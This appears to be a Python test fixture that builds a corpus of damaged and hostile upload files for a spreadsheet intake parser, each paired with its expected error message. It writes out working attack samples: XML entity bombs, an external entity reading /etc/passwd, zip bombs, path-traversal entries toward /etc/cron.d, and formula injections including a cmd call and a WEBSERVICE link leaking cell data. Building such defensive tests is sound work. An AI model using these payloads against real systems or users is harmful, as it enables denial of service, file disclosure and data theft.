"""Files that nobody should have to fear: each by its name, how it is made, and the words that its message must hold.

Empty words mean that the file is read, without an error.
"""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable
from datetime import date
from functools import cache

from tests.intake.files import SHEET, Filled, ods, saved, sheet, with_members, with_rows, zipped

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
CFB = OLE + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + bytes(472)


@cache
def good() -> bytes:
    filled = Filled()
    filled.put("budget.=", 1.5)
    return filled.data()


def entities(inside: str = "&c;") -> bytes:
    """Ten to the ninth times the same word: the bomb of a billion laughs."""
    levels = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in ["ab", "bc", "cd", "de", "ef", "fg", "gh", "hi"])
    head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "lol">{levels}]>'
    return f"{head}<worksheet><sheetData>{inside}</sheetData></worksheet>".encode()


def external_entity() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet>&f;</worksheet>'


def flipped() -> bytes:
    data = bytearray(good())
    places = random.Random(7)
    for _ in range(400):
        data[places.randrange(len(data) // 3, len(data) - 2000)] ^= 255
    return bytes(data)


def encrypted_zip() -> bytes:
    data = bytearray(saved(sheet([["indicator", "value"]])))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def lying_sizes() -> bytes:
    """A member that unpacks to far more than the directory of the archive says."""
    data = bytearray(with_members(saved(sheet([["a"]])), {SHEET: b"<worksheet>" + b" " * 3_000_000 + b"</worksheet>"}))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        if data[at + 46 :].startswith(SHEET.encode()):
            data[at + 24 : at + 28] = (1000).to_bytes(4, "little")
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def stored_bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("_rels/.rels", b"<Relationships/>")
        archive.writestr(SHEET, bytes(90_000_000))
    return file.getvalue()


def rows_of(count: int, row: str) -> bytes:
    return with_rows("".join(row.format(n=n) for n in range(1, count + 1)))


def beside(rows: str) -> bytes:
    """The good template with rows put to the end of its third sheet, in the file format."""
    member = "xl/worksheets/sheet3.xml"
    return with_members(good(), {member: lambda xml: xml.replace(b"</sheetData>", rows.encode() + b"</sheetData>")})


def many_members() -> bytes:
    return zipped({f"xl/worksheets/sheet{n}.xml": b"<worksheet/>" for n in range(3000)} | {"_rels/.rels": b"<x/>"})


def deep() -> bytes:
    return with_members(saved(sheet([["a"]])), {SHEET: b"<a>" * 200_000})


def with_shared(texts: bytes) -> bytes:
    """A workbook with a list of shared texts."""
    relation = (
        b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
        b'Target="sharedStrings.xml" Id="rId9"/></Relationships>'
    )
    return with_members(
        saved(sheet([["text", 1]])),
        {
            "xl/_rels/workbook.xml.rels": lambda xml: xml.replace(b"</Relationships>", relation),
            "xl/sharedStrings.xml": texts,
        },
    )


def shared(texts: int) -> bytes:
    items = "".join(f"<si><t>{n * 7919**9:0100d}</t></si>" for n in range(texts))
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return with_shared(f'<sst xmlns="{main}">{items}</sst>'.encode())


def sheets_to_outside() -> bytes:
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://x/worksheet" Target="http://example.org/sheet.xml" TargetMode="External"/></Relationships>'
    )
    return with_members(saved(sheet([["a"]])), {"xl/_rels/workbook.xml.rels": rels})


def sheets_above() -> bytes:
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://x/worksheet" Target="../../../../etc/passwd"/></Relationships>'
    )
    return with_members(saved(sheet([["a"]])), {"xl/_rels/workbook.xml.rels": rels, "../../etc/cron.d/x": b"* * * * *"})


def far_corner() -> bytes:
    filler = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(2, 60_000))
    return with_rows(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>indicator</t></is></c><c r="B1" t="inlineStr"><is><t>value</t></is>'
        f'</c></row>{filler}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    )


def injected() -> bytes:
    filled = Filled()
    filled.put("budget.=", "=cmd|'/C calc'!A0")
    filled.put("projects.projects", '=WEBSERVICE("http://example.org/?"&A1)')
    return filled.data()


def injected_text() -> bytes:
    return b"indicator,value,note,source\n16,1.5,\"'=cmd|'/C calc'!A0\",@SUM(1)\n"


def other_file() -> bytes:
    rows = (
        '<row r="900"><c r="D900"><f>[1]Sheet1!$A$1</f><v>15</v></c>'
        '<c r="M900" t="inlineStr"><is><t>projects.projects</t></is></c></row>'
    )
    return with_members(beside(rows), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})


def repeated_ods(rows: int, columns: int) -> bytes:
    cell = f'<table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="{columns}"/>'
    return ods(
        f'<table:table table:name="A"><table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row>'
        "</table:table>"
    )


def long_cell() -> bytes:
    filled = Filled()
    filled.put("budget.=", "1" * 30_000)
    return filled.data()


def dates() -> bytes:
    filled = Filled()
    filled.put("budget.=", date(2026, 5, 1))
    return filled.data()


HTML = b"<html><body><table><tr><td>indicator</td><td>value</td></tr></table></body></html>"

CORPUS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "nothing at all": ("a.xlsx", lambda: b"", "The file is empty"),
    "only spaces": ("a.csv", lambda: b" \n\n ", "The file is empty"),
    "a PDF called xlsx": ("a.xlsx", lambda: b"%PDF-1.7\n%\xe2\xe3" + bytes(500), "This is a PDF file"),
    "a picture called csv": ("a.csv", lambda: b"\x89PNG\r\n\x1a\n" + bytes(500), "This is a PNG file"),
    "a letter called ods": ("a.ods", lambda: b"{\\rtf1 hello}", "This is a RTF file"),
    "a Word file": (
        "a.xlsx",
        lambda: zipped({"_rels/.rels": b"<x/>", "word/document.xml": b"<x/>"}),
        "This is a Word file",
    ),
    "an old Word file": ("a.xls", lambda: CFB + "WordDocument".encode("utf-16-le"), "This is a Word file"),
    "slides": ("a.xlsx", lambda: zipped({"_rels/.rels": b"<x/>", "ppt/presentation.xml": b"<x/>"}), "PowerPoint"),
    "a binary workbook": ("a.xlsb", lambda: zipped({"xl/workbook.bin": b"x"}), "Save the workbook as .xlsx"),
    "a file of Numbers": ("a.numbers", lambda: zipped({"Index/Document.iwa": b"x"}), "In Numbers choose Export to"),
    "a web page called xls": ("a.xls", lambda: HTML, "This is not a workbook"),
    "a text called xlsx": ("a.xlsx", lambda: b"indicator,value\n1,2\n", "This is not a workbook"),
    "a compressed file": ("a.xlsx", lambda: b"\x1f\x8b\x08" + bytes(90), "This is a gzip file"),
    "protected by a password": (
        "a.xlsx",
        lambda: CFB + "EncryptedPackage".encode("utf-16-le") + bytes(2000),
        "protected by a password",
    ),
    "an encrypted zip": ("a.xlsx", encrypted_zip, "protected by a password"),
    "a broken old workbook": ("a.xls", lambda: CFB + bytes(2000), "damaged"),
    "an old workbook cut short": ("a.xls", lambda: OLE, "damaged"),
    "cut in the middle": ("a.xlsx", lambda: good()[: len(good()) // 2], "This is not a workbook"),
    "cut before its end": ("a.xlsx", lambda: good()[:-30], "This is not a workbook"),
    "four hundred bytes flipped": ("a.xlsx", flipped, "damaged"),
    "a zip of nothing": ("a.xlsx", lambda: zipped({}), "This is not a workbook"),
    "a zip of other things": ("a.xlsx", lambda: zipped({"readme.txt": b"hello"}), "This is not a workbook"),
    "a zip head and zeros": ("a.xlsx", lambda: b"PK\x03\x04" + bytes(5000), "This is not a workbook"),
    "a zip bomb": ("a.xlsx", stored_bomb, "unpacks to"),
    "a bomb of many members": ("a.xlsx", many_members, "larger than 20 MB"),
    "sizes that lie": ("a.xlsx", lying_sizes, "damaged"),
    "too many bytes": ("a.xlsx", lambda: b"PK\x03\x04" + bytes(21_000_000), "larger than 20 MB"),
    "a billion laughs": (
        "a.xlsx",
        lambda: with_members(good(), {"xl/worksheets/sheet2.xml": entities()}),
        "XML entities",
    ),
    "laughs in the texts": ("a.xlsx", lambda: with_shared(entities()), "XML entities"),
    "laughs in the styles": ("a.xlsx", lambda: with_members(good(), {"xl/styles.xml": entities()}), "XML entities"),
    "laughs in the frame": ("a.xlsx", lambda: with_members(good(), {"xl/workbook.xml": entities()}), "XML entities"),
    "laughs in LibreOffice": ("a.ods", lambda: zipped({"content.xml": entities()}), "XML entities"),
    "a file from outside": (
        "a.xlsx",
        lambda: with_members(good(), {"xl/worksheets/sheet2.xml": external_entity()}),
        "XML entities",
    ),
    "in another encoding": (
        "a.xlsx",
        lambda: with_members(good(), {"xl/workbook.xml": entities().decode().encode("utf-16")}),
        "XML entities",
    ),
    "elements without end": ("a.xlsx", deep, "damaged"),
    "no sheets": ("a.xlsx", lambda: with_members(good(), {"xl/workbook.xml": b"<workbook/>"}), "damaged"),
    "a sheet that is empty": ("a.xlsx", lambda: with_members(good(), {"xl/worksheets/sheet2.xml": b""}), "damaged"),
    "a sheet on the web": ("a.xlsx", sheets_to_outside, "damaged"),
    "names with path parts": ("../../../a.xlsx", sheets_above, "damaged"),
    "a million empty rows": ("a.xlsx", lambda: rows_of(1_000_000, '<row r="{n}"/>'), "no labels with figures"),
    "a million empty cells": (
        "a.xlsx",
        lambda: rows_of(1_000_000, '<row r="{n}"><c r="A{n}" s="1"/></row>'),
        "no labels with figures",
    ),
    "a million empty rows below a template": (
        "a.xlsx",
        lambda: beside("".join(f'<row r="{n}"/>' for n in range(300, 1_000_000))),
        "",
    ),
    "16 384 columns": (
        "a.xlsx",
        lambda: with_rows('<row r="1">' + "<c><v>1</v></c>" * 16_384 + "</row>"),
        "larger than any form",
    ),
    "16 384 columns, empty, many times": (
        "a.xlsx",
        lambda: with_rows(
            "".join(
                f'<row r="{n}">' + "".join(f'<c s="{c * n % 9973}"/>' for c in range(16_384)) + "</row>"
                for n in range(1, 60)
            )
        ),
        "larger than any form",
    ),
    "a cell in the far corner": ("a.xlsx", far_corner, "more than 20000 rows"),
    "texts without end": ("a.xlsx", lambda: shared(280_000), "more text than any form"),
    "repeated for ever in LibreOffice": ("a.ods", lambda: repeated_ods(1_048_576, 16_384), "larger than any form"),
    "repeated columns in LibreOffice": ("a.ods", lambda: repeated_ods(1, 16_384), "larger than any form"),
    "LibreOffice without content": ("a.ods", lambda: ods(""), "damaged"),
    "LibreOffice cut short": ("a.ods", lambda: zipped({"content.xml": b"<office:document"}), "damaged"),
    "a formula that injects": ("a.xlsx", injected, "was never calculated"),
    "a text that injects": ("a.csv", injected_text, ""),
    "figures of another file": ("a.xlsx", other_file, ""),
    "a number of 30 000 digits": ("a.xlsx", long_cell, "holds more than 5000 signs"),
    "a date for a number": ("a.xlsx", dates, "Probably 1.5 or 5.1 was typed"),
    "zeros in a text file": ("a.csv", lambda: b"indicator,value\n\0\0\0", "not a text table"),
    "no known encoding": ("a.csv", lambda: b"indicator,value\n\xff\xfe\xfa\x80,1\n", "neither UTF-8 nor GB18030"),
    "an open quotation mark": ("a.csv", lambda: b'"indicator,value\n1,2\n' * 3, "damaged"),
    "JSON without end": ("a.json", lambda: b"[" * 100_000, "This is not JSON"),
    "JSON of something else": ("a.json", lambda: b'{"a": [1, {"b": 2}]}', "no labels with figures"),
    "a table without figures": ("a.csv", lambda: b"indicator,value\n", "holds no figure below them"),
    "a table of another thing": ("a.csv", lambda: b"x,y\n1,2\n", "no labels with figures"),
}
"""Name of the case: name of the file, how it is made, words of the message."""
